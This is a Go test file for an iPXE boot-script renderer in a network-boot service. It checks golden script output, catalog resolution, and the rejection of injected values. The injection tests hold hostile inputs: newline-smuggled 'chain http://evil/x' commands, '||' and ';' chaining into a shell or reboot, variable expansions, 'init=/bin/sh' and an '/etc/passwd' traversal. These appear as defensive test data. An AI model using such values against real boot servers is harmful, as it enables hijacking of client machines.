package bootsvc

import (
	"bytes"
	"errors"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/shoal-project/shoal/cluster/catalog"
)

func goodScript() ScriptData {
	return ScriptData{
		BaseURL:    testBase,
		MAC:        macKnown,
		Hostname:   "pc1",
		Group:      "lab",
		BootMode:   catalog.BootDisklessRAM,
		Kernel:     BlobPath + testKernel,
		Initrds:    []string{BlobPath + testInitrd, "/v1/boot/agent.cpio.gz"},
		Servers:    []string{"10.77.0.1:7480", "10.77.0.2:7480"},
		ImageArgs:  "panic=-1",
		GroupArgs:  "console=ttyS0",
		ClientArgs: "quiet  systemd.unit=multi-user.target",
	}
}

func TestRenderScriptGolden(t *testing.T) {
	cases := []struct {
		name string
		mut  func(*ScriptData)
		want string
	}{
		{"registered client", func(*ScriptData) {}, `#!ipxe
echo shoal: booting pc1 aa:bb:cc:00:00:01 group lab from http://10.77.0.1:7480
kernel http://10.77.0.1:7480/v1/blobs/` + testKernel + ` initrd=` + testInitrd + ` initrd=agent.cpio.gz shoal.mac=aa:bb:cc:00:00:01 shoal.group=lab shoal.mode=diskless-ram shoal.hostname=pc1 shoal.servers=10.77.0.1:7480,10.77.0.2:7480 panic=-1 console=ttyS0 quiet systemd.unit=multi-user.target
initrd http://10.77.0.1:7480/v1/blobs/` + testInitrd + `
initrd http://10.77.0.1:7480/v1/boot/agent.cpio.gz
boot
`},
		{"unknown machine in default group, no initrd, no servers", func(s *ScriptData) {
			s.Hostname, s.Group, s.BootMode, s.Initrds, s.Servers = "", "guests", catalog.BootDisklessNBD, nil, nil
			s.ImageArgs, s.GroupArgs, s.ClientArgs = "", "", ""
		}, `#!ipxe
echo shoal: booting aa:bb:cc:00:00:01 group guests from http://10.77.0.1:7480
kernel http://10.77.0.1:7480/v1/blobs/` + testKernel + ` shoal.mac=aa:bb:cc:00:00:01 shoal.group=guests shoal.mode=diskless-nbd
boot
`},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			s := goodScript()
			tc.mut(&s)
			var b bytes.Buffer
			if err := RenderScript(&b, s); err != nil {
				t.Fatalf("RenderScript: %v", err)
			}
			if got := b.String(); got != tc.want {
				t.Errorf("script differs\n got: %q\nwant: %q", lines(got), lines(tc.want))
			}
		})
	}
}

// TestRenderScriptRejectsInjection: every field that reaches the script is
// a way in; each hostile value must be refused with ErrUnsafe or a clear
// error, and nothing may be written.
func TestRenderScriptRejectsInjection(t *testing.T) {
	cases := []struct {
		name string
		mut  func(*ScriptData)
	}{
		{"hostname newline command", func(s *ScriptData) { s.Hostname = "pc1\nchain http://evil/x" }},
		{"hostname semicolon", func(s *ScriptData) { s.Hostname = "pc1;reboot" }},
		{"hostname or-chain", func(s *ScriptData) { s.Hostname = "pc1 || shell" }},
		{"hostname expansion", func(s *ScriptData) { s.Hostname = "${root-path}" }},
		{"hostname upper case", func(s *ScriptData) { s.Hostname = "PC1" }},
		{"hostname too long", func(s *ScriptData) { s.Hostname = strings.Repeat("a", 64) }},
		{"client args newline", func(s *ScriptData) { s.ClientArgs = "quiet\nchain http://evil/x" }},
		{"client args or-chain", func(s *ScriptData) { s.ClientArgs = "quiet || chain http://evil/x" }},
		{"client args and-chain", func(s *ScriptData) { s.ClientArgs = "quiet && shell" }},
		{"group args expansion", func(s *ScriptData) { s.GroupArgs = "root=${filename}" }},
		{"group args semicolon", func(s *ScriptData) { s.GroupArgs = "a;b" }},
		{"image args comment", func(s *ScriptData) { s.ImageArgs = "quiet #" }},
		{"image args carriage return", func(s *ScriptData) { s.ImageArgs = "quiet\rboot" }},
		{"image args tab", func(s *ScriptData) { s.ImageArgs = "quiet\tboot" }},
		{"image args quote", func(s *ScriptData) { s.ImageArgs = `init="/bin/sh"` }},
		{"group name newline", func(s *ScriptData) { s.Group = "lab\nboot" }},
		{"mac with command", func(s *ScriptData) { s.MAC = macKnown + "\nshell" }},
		{"mac not canonical", func(s *ScriptData) { s.MAC = "AA-BB-CC-00-00-01" }},
		{"boot mode", func(s *ScriptData) { s.BootMode = "disk\nshell" }},
		{"base url expansion", func(s *ScriptData) { s.BaseURL = "http://${next-server}:7480" }},
		{"base url space", func(s *ScriptData) { s.BaseURL = "http://10.77.0.1:7480/ shell" }},
		{"base url query", func(s *ScriptData) { s.BaseURL = testBase + "?x=1" }},
		{"base url userinfo", func(s *ScriptData) { s.BaseURL = "http://u:p@10.77.0.1" }},
		{"base url scheme", func(s *ScriptData) { s.BaseURL = "tftp://10.77.0.1" }},
		{"base url trailing slash", func(s *ScriptData) { s.BaseURL = testBase + "/" }},
		{"kernel dotdot", func(s *ScriptData) { s.Kernel = "/v1/blobs/../../etc/passwd" }},
		{"kernel relative", func(s *ScriptData) { s.Kernel = "v1/blobs/x" }},
		{"kernel space", func(s *ScriptData) { s.Kernel = "/v1/blobs/x boot" }},
		{"initrd newline", func(s *ScriptData) { s.Initrds = []string{"/a\nshell"} }},
		{"initrd duplicate name", func(s *ScriptData) { s.Initrds = []string{"/a/initrd", "/b/initrd"} }},
		{"server with space", func(s *ScriptData) { s.Servers = []string{"10.77.0.1:7480 shell"} }},
		{"server without port", func(s *ScriptData) { s.Servers = []string{"10.77.0.1"} }},
		{"server expansion", func(s *ScriptData) { s.Servers = []string{"${ip}:7480"} }},
		{"command line too long", func(s *ScriptData) {
			s.ImageArgs, s.GroupArgs = strings.Repeat("a", 1000), strings.Repeat("b", 1000)
		}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			s := goodScript()
			tc.mut(&s)
			var b bytes.Buffer
			err := RenderScript(&b, s)
			if err == nil {
				t.Fatalf("accepted; script:\n%s", b.String())
			}
			if b.Len() != 0 {
				t.Errorf("wrote %d bytes despite error %v", b.Len(), err)
			}
		})
	}
}

func TestRenderNotice(t *testing.T) {
	var b bytes.Buffer
	if err := RenderNotice(&b, UnknownClientNotice(macUnknown, 30*time.Second)); err != nil {
		t.Fatal(err)
	}
	want := `#!ipxe
echo shoal: this machine, MAC aa:bb:cc:00:00:99, is not registered in the catalogue.
echo shoal: to boot it, register it with shoal client add aa:bb:cc:00:00:99 and a hostname and group.
echo shoal: trying again in 30 seconds
sleep 30 ||
reboot ||
exit
`
	if b.String() != want {
		t.Errorf("notice differs\n got: %q\nwant: %q", lines(b.String()), lines(want))
	}
}

func TestRenderNoticeHostile(t *testing.T) {
	n := UnknownClientNotice("aa:bb:cc:00:00:01\nshell", time.Minute)
	var b bytes.Buffer
	if err := RenderNotice(&b, n); err != nil {
		t.Fatal(err)
	}
	if strings.Contains(b.String(), "shell") || !strings.Contains(b.String(), "(unreadable MAC)") {
		t.Errorf("hostile MAC echoed:\n%s", b.String())
	}
	for _, bad := range []Notice{
		{Lines: []string{"hello\nshell"}, Retry: time.Second},
		{Lines: []string{"${evil}"}, Retry: time.Second},
		{Lines: []string{"ok"}, Retry: 0},
	} {
		b.Reset()
		if err := RenderNotice(&b, bad); err == nil || b.Len() != 0 {
			t.Errorf("notice %q accepted (err %v, %d bytes)", bad.Lines, err, b.Len())
		}
	}
}

func TestResolve(t *testing.T) {
	src := ScriptSource{Catalog: newFakeCatalog(), BaseURL: testBase,
		Servers: func() []string { return []string{"10.77.0.1:7480"} }, ExtraInitrds: []string{"/v1/boot/agent.cpio.gz"}}
	deflt := src
	deflt.DefaultGroup = "guests"
	noimage := src
	noimage.DefaultGroup = "noimage"
	missing := src
	missing.DefaultGroup = "nosuch"
	cases := []struct {
		name    string
		src     ScriptSource
		mac     string
		err     error
		kernel  string
		initrds []string
		args    [3]string
	}{
		{"known client, current version", src, "AA-BB-CC-00-00-01", nil, "/v1/boot/blobs/aa-bb-cc-00-00-01/" + testKernel,
			[]string{"/v1/boot/blobs/aa-bb-cc-00-00-01/" + testInitrd, "/v1/boot/agent.cpio.gz"},
			[3]string{"panic=-1", "console=ttyS0", "quiet systemd.unit=multi-user.target"}},
		{"unknown, no default", src, macUnknown, ErrUnknownClient, "", nil, [3]string{}},
		{"unknown, default group pinned", deflt, macUnknown, nil, BootBlobURLPath(macUnknown, oldKernel),
			[]string{"/v1/boot/agent.cpio.gz"}, [3]string{}},
		{"group without image", noimage, macUnknown, ErrNotBootable, "", nil, [3]string{}},
		{"group missing", missing, macUnknown, ErrNotBootable, "", nil, [3]string{}},
		{"bad mac", src, "zz", catalog.ErrInvalid, "", nil, [3]string{}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			d, err := tc.src.Resolve(tc.mac)
			if !errors.Is(err, tc.err) {
				t.Fatalf("Resolve error %v, want %v", err, tc.err)
			}
			if err != nil {
				return
			}
			args := [3]string{d.ImageArgs, d.GroupArgs, d.ClientArgs}
			if d.Kernel != tc.kernel || !slices.Equal(d.Initrds, tc.initrds) || args != tc.args {
				t.Errorf("got kernel %s initrds %v args %q", d.Kernel, d.Initrds, args)
			}
			if err := RenderScript(&bytes.Buffer{}, d); err != nil {
				t.Errorf("resolved data does not render: %v", err)
			}
		})
	}
}

func TestResolveVersionWithoutKernel(t *testing.T) {
	cat := newFakeCatalog()
	im := cat.images["deb"]
	im.Versions[1].KernelBlob = ""
	cat.images["deb"] = im
	_, err := ScriptSource{Catalog: cat, BaseURL: testBase}.Resolve(macKnown)
	if !errors.Is(err, ErrNotBootable) {
		t.Fatalf("Resolve error %v, want ErrNotBootable", err)
	}
}
